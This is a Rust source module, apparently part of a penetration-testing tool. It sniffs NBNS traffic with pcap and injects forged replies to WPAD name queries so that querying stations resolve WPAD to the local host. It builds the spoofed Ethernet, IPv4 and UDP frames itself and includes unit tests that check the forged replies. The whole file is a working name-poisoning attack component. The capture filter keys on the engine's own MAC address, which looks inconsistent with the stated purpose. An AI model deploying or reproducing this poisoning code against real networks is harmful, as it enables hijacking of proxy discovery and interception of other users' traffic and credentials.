//! Protocol poisoning engine
//!
//! Captures NBNS traffic on a pcap device and answers every WPAD name
//! query with a forged positive reply pointing at this host. TCP segments
//! that match the filter are observed passively and never touched. The
//! blocking pcap loop runs on the blocking thread pool and polls the
//! shared cancellation flag between reads.

use crate::error::{Error, Result};
use crate::nbns::{self, NBNS_PORT};
use crate::worker::{Shutdown, Worker};
use async_trait::async_trait;
use pnet::datalink::{self, MacAddr};
use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::packet::ip::IpNextHeaderProtocols;
use pnet::packet::ipv4::{self, Ipv4Packet, MutableIpv4Packet};
use pnet::packet::tcp::{TcpFlags, TcpPacket};
use pnet::packet::udp::{self, MutableUdpPacket, UdpPacket};
use pnet::packet::Packet;
use std::net::{IpAddr, Ipv4Addr};

const ETHERNET_HEADER_LEN: usize = 14;
const IPV4_HEADER_LEN: usize = 20;
const UDP_HEADER_LEN: usize = 8;

/// Build the session capture filter: NBNS traffic whose Ethernet source
/// is the given MAC.
pub fn capture_filter(source_mac: MacAddr) -> String {
  format!("ether src {} and udp port {}", source_mac, NBNS_PORT)
}

/// One human-readable line per capture device:
/// `"{ipv4-or-placeholder} - {description}"`.
pub fn list_devices() -> Result<Vec<String>> {
  let devices = pcap::Device::list()?;
  Ok(
    devices
      .iter()
      .map(|device| {
        let address = device
          .addresses
          .iter()
          .find_map(|address| match address.addr {
            IpAddr::V4(v4) => Some(v4.to_string()),
            IpAddr::V6(_) => None,
          })
          .unwrap_or_else(|| "<no ipv4>".to_string());
        let description = device.desc.as_deref().unwrap_or(&device.name);
        format!("{} - {}", address, description)
      })
      .collect(),
  )
}

/// Find the interface behind a pcap device name. pcap names embed the
/// interface id (on Windows, `\Device\NPF_{guid}`), so a substring match
/// in either direction is accepted alongside an exact one.
fn matching_interface(device: &str) -> Option<datalink::NetworkInterface> {
  datalink::interfaces()
    .into_iter()
    .find(|interface| {
      interface.name == device
        || device.contains(&interface.name)
        || interface.name.contains(device)
    })
}

/// First IPv4 unicast address of the capture device.
///
/// With `ignore_empty` an address-less device yields `None`; otherwise it
/// is an error, since the poisoned replies need an address to advertise.
pub fn device_ipv4(device: &str, ignore_empty: bool) -> Result<Option<Ipv4Addr>> {
  let Some(interface) = matching_interface(device) else {
    if ignore_empty {
      return Ok(None);
    }
    return Err(Error::capture(format!("no interface matches {}", device)));
  };

  let address = interface.ips.iter().find_map(|network| match network.ip() {
    IpAddr::V4(v4) => Some(v4),
    IpAddr::V6(_) => None,
  });
  match address {
    Some(v4) => Ok(Some(v4)),
    None if ignore_empty => Ok(None),
    None => Err(Error::capture(format!("{} has no IPv4 address", device))),
  }
}

/// Hardware address of the capture device.
pub fn device_mac(device: &str) -> Result<MacAddr> {
  matching_interface(device)
    .and_then(|interface| interface.mac)
    .ok_or_else(|| Error::capture(format!("unable to resolve the MAC address of {}", device)))
}

/// Assemble the complete injectable frame around a 62-byte poisoned reply:
/// Ethernet back to the querying station, IPv4 with a header checksum, UDP
/// 137 to 137 with a pseudo-header checksum (RFC 1071 one's complement,
/// as computed by pnet).
fn build_reply_frame(
  source_mac: MacAddr,
  dest_mac: MacAddr,
  source_ip: Ipv4Addr,
  dest_ip: Ipv4Addr,
  dest_port: u16,
  reply: &[u8; 62],
) -> Result<Vec<u8>> {
  let total = ETHERNET_HEADER_LEN + IPV4_HEADER_LEN + UDP_HEADER_LEN + reply.len();
  let mut frame = vec![0u8; total];

  {
    let mut ethernet = MutableEthernetPacket::new(&mut frame)
      .ok_or_else(|| Error::capture("reply frame too small for an Ethernet header"))?;
    ethernet.set_destination(dest_mac);
    ethernet.set_source(source_mac);
    ethernet.set_ethertype(EtherTypes::Ipv4);
  }

  {
    let mut ip = MutableIpv4Packet::new(&mut frame[ETHERNET_HEADER_LEN..])
      .ok_or_else(|| Error::capture("reply frame too small for an IPv4 header"))?;
    ip.set_version(4);
    ip.set_header_length((IPV4_HEADER_LEN / 4) as u8);
    ip.set_total_length((IPV4_HEADER_LEN + UDP_HEADER_LEN + reply.len()) as u16);
    ip.set_identification(rand::random::<u16>());
    ip.set_ttl(128);
    ip.set_next_level_protocol(IpNextHeaderProtocols::Udp);
    ip.set_source(source_ip);
    ip.set_destination(dest_ip);
    ip.set_checksum(ipv4::checksum(&ip.to_immutable()));
  }

  {
    let mut udp = MutableUdpPacket::new(&mut frame[ETHERNET_HEADER_LEN + IPV4_HEADER_LEN..])
      .ok_or_else(|| Error::capture("reply frame too small for a UDP header"))?;
    udp.set_source(NBNS_PORT);
    udp.set_destination(dest_port);
    udp.set_length((UDP_HEADER_LEN + reply.len()) as u16);
    udp.set_payload(reply);
    udp.set_checksum(udp::ipv4_checksum(
      &udp.to_immutable(),
      &source_ip,
      &dest_ip,
    ));
  }

  Ok(frame)
}

/// Inspect one captured frame. A WPAD name query yields the forged reply
/// frame to inject; TCP SYNs are logged passively; everything else is
/// dropped. Parse failures are per-packet and never abort the session.
fn inspect_frame(data: &[u8], source_mac: MacAddr, responder: Ipv4Addr) -> Option<Vec<u8>> {
  let ethernet = EthernetPacket::new(data)?;
  if ethernet.get_ethertype() != EtherTypes::Ipv4 {
    return None;
  }
  let ip = Ipv4Packet::new(ethernet.payload())?;

  match ip.get_next_level_protocol() {
    IpNextHeaderProtocols::Udp => {
      let udp = UdpPacket::new(ip.payload())?;
      let query = nbns::parse_query(udp.payload())?;
      if query.name != nbns::WPAD_HOST_NAME {
        tracing::debug!("ignoring NBNS query for {}", query.name);
        return None;
      }

      tracing::info!(
        "{} asked for {}, poisoning the response",
        ip.get_source(),
        query.name
      );
      let reply = nbns::build_reply(query.transaction_id, responder);
      match build_reply_frame(
        source_mac,
        ethernet.get_source(),
        responder,
        ip.get_source(),
        udp.get_source(),
        &reply,
      ) {
        Ok(frame) => Some(frame),
        Err(e) => {
          tracing::debug!("unable to build a reply frame: {}", e);
          None
        }
      }
    }
    IpNextHeaderProtocols::Tcp => {
      if let Some(tcp) = TcpPacket::new(ip.payload()) {
        if tcp.get_flags() & TcpFlags::SYN != 0 {
          tracing::debug!(
            "observed SYN {}:{} -> {}:{}",
            ip.get_source(),
            tcp.get_source(),
            ip.get_destination(),
            tcp.get_destination()
          );
        }
      }
      None
    }
    _ => None,
  }
}

/// The NBNS poisoning worker.
pub struct PoisonEngine {
  device: String,
  source_mac: MacAddr,
  responder: Ipv4Addr,
  read_timeout_ms: i32,
}

impl PoisonEngine {
  pub fn new(device: String, source_mac: MacAddr, responder: Ipv4Addr, read_timeout_ms: i32) -> Self {
    Self {
      device,
      source_mac,
      responder,
      read_timeout_ms,
    }
  }

  fn capture_loop(
    device: String,
    source_mac: MacAddr,
    responder: Ipv4Addr,
    read_timeout_ms: i32,
    shutdown: Shutdown,
  ) -> Result<()> {
    let selected = pcap::Device::list()?
      .into_iter()
      .find(|candidate| candidate.name == device)
      .ok_or_else(|| Error::capture(format!("capture device {} not found", device)))?;

    let mut capture = pcap::Capture::from_device(selected)?
      .timeout(read_timeout_ms)
      .open()?;

    let filter = capture_filter(source_mac);
    tracing::info!("Capturing on {} with filter '{}'", device, filter);
    capture.filter(&filter, true)?;

    loop {
      if shutdown.is_cancelled() {
        tracing::info!("Stopping the capture on {}", device);
        return Ok(());
      }
      match capture.next_packet() {
        Ok(packet) => {
          if let Some(frame) = inspect_frame(packet.data, source_mac, responder) {
            if let Err(e) = capture.sendpacket(&frame[..]) {
              tracing::error!("Failed to inject a poisoned reply: {}", e);
            }
          }
        }
        // The read timeout is the cancellation poll interval.
        Err(pcap::Error::TimeoutExpired) => continue,
        Err(e) => return Err(e.into()),
      }
    }
  }
}

#[async_trait]
impl Worker for PoisonEngine {
  fn name(&self) -> &'static str {
    "capture"
  }

  async fn run(&self, shutdown: Shutdown) -> Result<()> {
    let device = self.device.clone();
    let source_mac = self.source_mac;
    let responder = self.responder;
    let read_timeout_ms = self.read_timeout_ms;

    tokio::task::spawn_blocking(move || {
      Self::capture_loop(device, source_mac, responder, read_timeout_ms, shutdown)
    })
    .await
    .map_err(|e| Error::capture(format!("capture task failed: {}", e)))?
  }
}

#[cfg(test)]
mod tests {
  use super::*;
  use crate::nbns::{encode_name, ADDR_OFFSET, ENCODED_NAME_LEN, WPAD_HOST_NAME};

  const STATION_MAC: MacAddr = MacAddr(0x02, 0x11, 0x22, 0x33, 0x44, 0x55);
  const AUDIT_MAC: MacAddr = MacAddr(0x02, 0xaa, 0xbb, 0xcc, 0xdd, 0xee);
  const STATION_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 77);
  const AUDIT_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 10);

  fn query_payload(name: &str) -> Vec<u8> {
    let mut payload = Vec::new();
    payload.extend_from_slice(&[0xbe, 0xef]); // transaction id
    payload.extend_from_slice(&0x0110u16.to_be_bytes()); // flags: query
    payload.extend_from_slice(&[0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]);
    payload.push(ENCODED_NAME_LEN as u8);
    payload.extend_from_slice(&encode_name(name));
    payload.extend_from_slice(&[0x00, 0x00, 0x20, 0x00, 0x01]);
    payload
  }

  fn query_frame(name: &str) -> Vec<u8> {
    let payload = query_payload(name);
    let total = ETHERNET_HEADER_LEN + IPV4_HEADER_LEN + UDP_HEADER_LEN + payload.len();
    let mut frame = vec![0u8; total];

    {
      let mut ethernet = MutableEthernetPacket::new(&mut frame).unwrap();
      ethernet.set_destination(MacAddr::broadcast());
      ethernet.set_source(STATION_MAC);
      ethernet.set_ethertype(EtherTypes::Ipv4);
    }
    {
      let mut ip = MutableIpv4Packet::new(&mut frame[ETHERNET_HEADER_LEN..]).unwrap();
      ip.set_version(4);
      ip.set_header_length((IPV4_HEADER_LEN / 4) as u8);
      ip.set_total_length((IPV4_HEADER_LEN + UDP_HEADER_LEN + payload.len()) as u16);
      ip.set_ttl(64);
      ip.set_next_level_protocol(IpNextHeaderProtocols::Udp);
      ip.set_source(STATION_IP);
      ip.set_destination(Ipv4Addr::new(192, 168, 1, 255));
      ip.set_checksum(ipv4::checksum(&ip.to_immutable()));
    }
    {
      let mut udp =
        MutableUdpPacket::new(&mut frame[ETHERNET_HEADER_LEN + IPV4_HEADER_LEN..]).unwrap();
      udp.set_source(49500);
      udp.set_destination(NBNS_PORT);
      udp.set_length((UDP_HEADER_LEN + payload.len()) as u16);
      udp.set_payload(&payload);
      udp.set_checksum(udp::ipv4_checksum(
        &udp.to_immutable(),
        &STATION_IP,
        &Ipv4Addr::new(192, 168, 1, 255),
      ));
    }
    frame
  }

  #[test]
  fn unknown_device_resolution_respects_ignore_empty() {
    assert!(device_ipv4("no-such-device", false).is_err());
    assert_eq!(device_ipv4("no-such-device", true).unwrap(), None);
    assert!(device_mac("no-such-device").is_err());
  }

  #[test]
  fn filter_names_the_source_mac_and_nbns_port() {
    let filter = capture_filter(AUDIT_MAC);
    assert_eq!(filter, "ether src 02:aa:bb:cc:dd:ee and udp port 137");
  }

  #[test]
  fn wpad_query_produces_an_addressed_reply_frame() {
    let frame = query_frame(WPAD_HOST_NAME);
    let reply = inspect_frame(&frame, AUDIT_MAC, AUDIT_IP).expect("WPAD query must be answered");

    let ethernet = EthernetPacket::new(&reply).unwrap();
    assert_eq!(ethernet.get_destination(), STATION_MAC);
    assert_eq!(ethernet.get_source(), AUDIT_MAC);
    assert_eq!(ethernet.get_ethertype(), EtherTypes::Ipv4);

    let ip = Ipv4Packet::new(ethernet.payload()).unwrap();
    assert_eq!(ip.get_source(), AUDIT_IP);
    assert_eq!(ip.get_destination(), STATION_IP);
    assert_eq!(ip.get_checksum(), ipv4::checksum(&ip));

    let udp = UdpPacket::new(ip.payload()).unwrap();
    assert_eq!(udp.get_source(), NBNS_PORT);
    assert_eq!(udp.get_destination(), 49500);
    assert_eq!(
      udp.get_checksum(),
      udp::ipv4_checksum(&udp, &AUDIT_IP, &STATION_IP)
    );

    let payload = udp.payload();
    assert_eq!(payload.len(), 62);
    assert_eq!(&payload[..2], &[0xbe, 0xef]);
    assert_eq!(&payload[ADDR_OFFSET..ADDR_OFFSET + 4], &AUDIT_IP.octets());
  }

  #[test]
  fn non_wpad_queries_are_ignored() {
    let frame = query_frame("FILESERVER");
    assert!(inspect_frame(&frame, AUDIT_MAC, AUDIT_IP).is_none());
  }

  #[test]
  fn garbage_frames_are_dropped_without_panic() {
    assert!(inspect_frame(&[], AUDIT_MAC, AUDIT_IP).is_none());
    assert!(inspect_frame(&[0u8; 10], AUDIT_MAC, AUDIT_IP).is_none());
    let mut frame = query_frame(WPAD_HOST_NAME);
    frame.truncate(30);
    assert!(inspect_frame(&frame, AUDIT_MAC, AUDIT_IP).is_none());
  }
}
